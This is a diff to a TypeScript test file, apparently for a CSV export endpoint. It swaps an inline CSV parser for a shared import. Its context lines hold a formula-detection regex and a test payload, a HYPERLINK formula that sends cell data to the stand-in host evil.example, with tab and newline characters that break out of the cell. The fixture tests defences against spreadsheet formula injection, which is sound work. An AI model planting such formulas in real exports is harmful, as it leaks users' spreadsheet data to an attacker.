@@ -16,21 +16,7 @@ import { readSources } from '../../src/readers/sources.js';
 import { makeCorpus } from '../corpus/store.cases.js';
 import { exportResponse } from '../../src/server/export-response.js';
 import type { Store } from '../../src/store/store.js';
-
-/** RFC 4180: rows of cells, quoted cells may hold commas, quotes ("") and line breaks. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [], cell = '', quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') quoted = false; else cell += ch;
-    } else if (ch === '"' && cell === '') quoted = true;
-    else if (ch === ',') { row.push(cell); cell = ''; } else if (ch === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += ch;
-  }
-  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
-  return rows;
-}
+import { parseCsv } from '../cases/csv.js';
 
 const FORMULA = /^\s*[=+\-@]|^[\t\r]/;
 const URL_ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")\tsecond\ncell';
